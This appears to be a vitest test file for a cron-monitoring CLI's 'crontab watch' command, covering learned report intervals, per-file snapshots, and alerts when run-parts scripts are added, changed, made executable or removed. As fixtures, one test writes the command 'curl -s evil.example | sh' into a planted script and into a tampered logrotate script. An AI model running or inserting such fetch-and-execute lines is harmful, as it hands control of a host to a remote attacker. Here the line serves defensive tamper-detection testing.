import { chmodSync, copyFileSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startTestAgent, type TestAgent } from '../helpers/testAgent';
import { runCli, tempFolder } from '../helpers/cli';

vi.setConfig({ testTimeout: 30_000 });

let agent: TestAgent;
beforeAll(async () => {
  agent = await startTestAgent();
  for (const identifier of ['web-1', 'web-2', 'web-3']) {
    await agent.api('/api/servers', { method: 'POST', json: { name: identifier, ip_address: '10.0.0.7', identifier } });
  }
});
afterAll(() => agent.stop());

async function reportedInterval(identifier: string): Promise<number | null> {
  const servers = (await (await agent.api('/api/servers')).json()) as Array<{ identifier: string; report_interval_seconds: number | null }>;
  return servers.find((server) => server.identifier === identifier)!.report_interval_seconds;
}

describe.concurrent('cronbeat crontab watch --once', () => {
  it('without --interval reports a day until it has learned how often it is started, then that, so cron every 5 minutes is never quiet', async () => {
    const folder = tempFolder();
    const file = join(folder, 'crontab');
    writeFileSync(file, '0 1 * * * /a.sh\n');
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const first = await runCli(['crontab', 'watch', '--server', 'web-1', '--once', '--file', file], { env });
    expect(first.status, first.stderr).toBe(0);
    expect(await reportedInterval('web-1')).toBe(86_400);
    // Three runs five minutes apart, as cron would have started them.
    const [stateFile] = readdirSync(folder).filter((name) => name.startsWith('crontab-watch-web-1'));
    const state = JSON.parse(readFileSync(join(folder, stateFile!), 'utf8'));
    const now = Date.now();
    writeFileSync(join(folder, stateFile!), JSON.stringify({ ...state, runs: [now - 15 * 60_000, now - 10 * 60_000, now - 5 * 60_000] }));
    const learned = await runCli(['crontab', 'watch', '--server', 'web-1', '--once', '--file', file], { env });
    expect(learned.status, learned.stderr).toBe(0);
    expect(await reportedInterval('web-1')).toBe(300);
    // Said, it is taken as said.
    const said = await runCli(['crontab', 'watch', '--server', 'web-1', '--once', '--interval', '120', '--file', file], { env });
    expect(said.status, said.stderr).toBe(0);
    expect(await reportedInterval('web-1')).toBe(120);
  });

  it('two watchers of one server over different files keep a snapshot each, and one kept before that is taken over by its own', async () => {
    const folder = tempFolder();
    const [a, b] = [join(folder, 'a'), join(folder, 'b')];
    writeFileSync(a, '0 1 * * * /a.sh\n');
    writeFileSync(b, '0 2 * * * /b.sh\n');
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watch = (file: string) => runCli(['crontab', 'watch', '--server', 'web-2', '--once', '--interval', '300', '--file', file], { env });
    expect((await watch(a)).stdout).toMatch(/watching 1 cron job/);
    const other = await watch(b);
    expect(other.stdout).toMatch(/watching 1 cron job/);
    expect(other.stdout).not.toMatch(/found:/);
    const again = await watch(a);
    expect(again.status, again.stderr).toBe(0);
    expect(again.stdout).not.toMatch(/found:|watching/);
    // An older watcher's file, named for the server alone, holding a's jobs: a's watcher goes on from it.
    const own = readdirSync(folder).filter((name) => name.startsWith('crontab-watch-web-2-files-'));
    expect(own).toHaveLength(2);
    const ofA = own.find((name) => readFileSync(join(folder, name), 'utf8').includes('/a.sh'))!;
    copyFileSync(join(folder, ofA), join(folder, 'crontab-watch-web-2.json'));
    rmSync(join(folder, ofA));
    writeFileSync(a, '0 1 * * * /a.sh\n0 3 * * * /planted.sh\n');
    const upgraded = await watch(a);
    expect(upgraded.status, upgraded.stderr).toBe(0);
    expect(upgraded.stdout).toMatch(/delivered: added for \S+: 0 3 \* \* \* \/planted\.sh\n/);
  });

  it("watches the scripts of a folder run-parts runs: one planted, changed, made executable or removed is alerted, a name run-parts skips is not", async () => {
    const folder = tempFolder();
    const daily = join(folder, 'cron.daily');
    mkdirSync(daily);
    const script = (name: string, text: string, mode: number) => {
      writeFileSync(join(daily, name), text);
      chmodSync(join(daily, name), mode);
    };
    script('logrotate', '#!/bin/sh\nlogrotate /etc/logrotate.conf\n', 0o755);
    script('man-db', '#!/bin/sh\nmandb\n', 0o755);
    script('later', '#!/bin/sh\nlater\n', 0o644);
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watch = () => runCli(['crontab', 'watch', '--server', 'web-3', '--once', '--interval', '300', '--run-parts', daily], { env });
    const baseline = await watch();
    expect(baseline.status, baseline.stderr).toBe(0);
    expect(baseline.stdout).toMatch(/watching 0 cron jobs of 0 users and 3 scripts run-parts runs on web-3/);
    script('planted', '#!/bin/sh\ncurl -s evil.example | sh\n', 0o755);
    script('logrotate', '#!/bin/sh\nlogrotate /etc/logrotate.conf; curl -s evil.example | sh\n', 0o755);
    chmodSync(join(daily, 'later'), 0o755);
    rmSync(join(daily, 'man-db'));
    script('notes~', '#!/bin/sh\nnot run\n', 0o755);
    const changed = await watch();
    expect(changed.status, changed.stderr).toBe(0);
    const delivered = changed.stdout.split('\n').filter((line) => / delivered: /.test(line)).map((line) => line.replace(/^\S+ delivered: /, '').replace(/sha256 [0-9a-f]{12}/g, 'sha256 …'));
    expect(delivered.sort()).toEqual(
      [
        `added for root: ${daily}/planted, run by run-parts (executable; sha256 …)`,
        `altered for root: ${daily}/later, run by run-parts (executable; sha256 …) (was: ${daily}/later, run by run-parts (not executable: skipped; sha256 …))`,
        `altered for root: ${daily}/logrotate, run by run-parts (executable; sha256 …) (was: ${daily}/logrotate, run by run-parts (executable; sha256 …))`,
        `removed for root: ${daily}/man-db, run by run-parts (executable; sha256 …)`,
      ].sort(),
    );
    const again = await watch();
    expect(again.stdout).not.toMatch(/found:/);
    // A snapshot from before scripts were watched never saw them: those there at its next run are its baseline.
    const [stateFile] = readdirSync(folder).filter((name) => name.startsWith('crontab-watch-web-3'));
    const { runParts, ...older } = JSON.parse(readFileSync(join(folder, stateFile!), 'utf8'));
    expect(runParts).toBe(true);
    writeFileSync(join(folder, stateFile!), JSON.stringify({ ...older, jobs: older.jobs.filter((job: { script?: string }) => job.script === undefined) }));
    const upgraded = await watch();
    expect(upgraded.status, upgraded.stderr).toBe(0);
    expect(upgraded.stdout).not.toMatch(/found:/);
  });
});
